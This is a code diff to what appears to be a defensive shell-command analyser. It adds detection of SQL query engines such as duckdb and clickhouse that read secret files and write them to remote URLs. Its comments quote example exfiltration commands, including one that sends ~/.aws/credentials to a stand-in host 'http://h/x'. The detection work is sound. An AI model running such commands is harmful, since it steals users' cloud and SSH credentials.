@@ -12,7 +12,7 @@
 import { type Invocation, optionText, plain, type Reporter, splitArgs } from '../unwrap/invocation';
 import type { Word } from '../walk/decode-word';
 import { NO_FLOW } from '../walk/flow';
-import { hostOf, isLocalHost } from './network-target';
+import { hostOf, isLocalHost, networkTarget } from './network-target';
 import { resolveArg, stdinSensitive, touchPath } from './path-effects';
 import { holdsSecretCopy, madeSecretCopy } from './secret-copies';
 import { isServiceClient } from './service-hosts';
@@ -89,6 +89,7 @@ function sentSecret(w: Word, inv: Invocation, r: Reporter): boolean {
 /** `aws ... --body ~/.ssh/id_rsa`, `kubectl create secret generic x --from-file=~/.aws/credentials`, ... */
 export function cloudSenders(inv: Invocation, r: Reporter): void {
   publishedCopies(inv, r);
+  querySenders(inv, r);
   const cluster = CLUSTER_CLIENTS.has(inv.program);
   if (!cluster && !isServiceClient(inv.program)) return;
   if (endpointLocal(inv)) return;
@@ -163,4 +164,40 @@ function publishedCopies(inv: Invocation, r: Reporter): void {
   const resolved = resolveArg(folder ?? { text: '.', flow: NO_FLOW }, inv, r).resolved;
   if (holdsSecretCopy(resolved, r))
     r.exfiltration(inv.segment, `\`${inv.program}\` publishes a folder a secret was copied into`);
+}
+
+/** Query engines that read files and write to URLs from their SQL (`COPY (...) TO 'http://h/x'`). */
+const QUERY_ENGINES = new Set([
+  'duckdb',
+  'sqlite3',
+  'sqlite',
+  'clickhouse',
+  'clickhouse-local',
+  'chdb',
+  'datafusion-cli',
+]);
+
+/**
+ * `duckdb -c "COPY (SELECT * FROM read_text('~/.aws/credentials')) TO 'http://h/x'"`: a query whose quoted
+ * strings name a secret file and a URL on another host sends the one to the other, whatever the SQL around them
+ * (COPY ... TO, INTO OUTFILE, INSERT INTO FUNCTION url(...)). The query is any literal word or the literal input.
+ */
+export function querySenders(inv: Invocation, r: Reporter): void {
+  if (!QUERY_ENGINES.has(inv.program)) return;
+  const texts = inv.args.map((w) => plain(w));
+  if (inv.stdin.literal !== undefined) texts.push(inv.stdin.literal);
+  let secret = false;
+  let remote = false;
+  for (const text of texts) {
+    for (const m of text.matchAll(/'([^']*)'|"([^"]*)"/g)) {
+      const s = m[1] ?? m[2] ?? '';
+      if (/^[a-z][a-z0-9+.-]*:\/\//i.test(s) && !/^file:/i.test(s)) {
+        if (hostOf(s) !== undefined && networkTarget(s, inv.program, inv, r)) remote = true;
+      } else if (/^[~/.]|\//.test(s) && !/\s/.test(s)) {
+        if (touchPath({ text: s, flow: NO_FLOW }, 'read', inv, r).class === 'sensitive') secret = true;
+      }
+    }
+  }
+  if (secret && remote)
+    r.exfiltration(inv.segment, `\`${inv.program}\` writes secret material to a remote URL from its query`);
 }
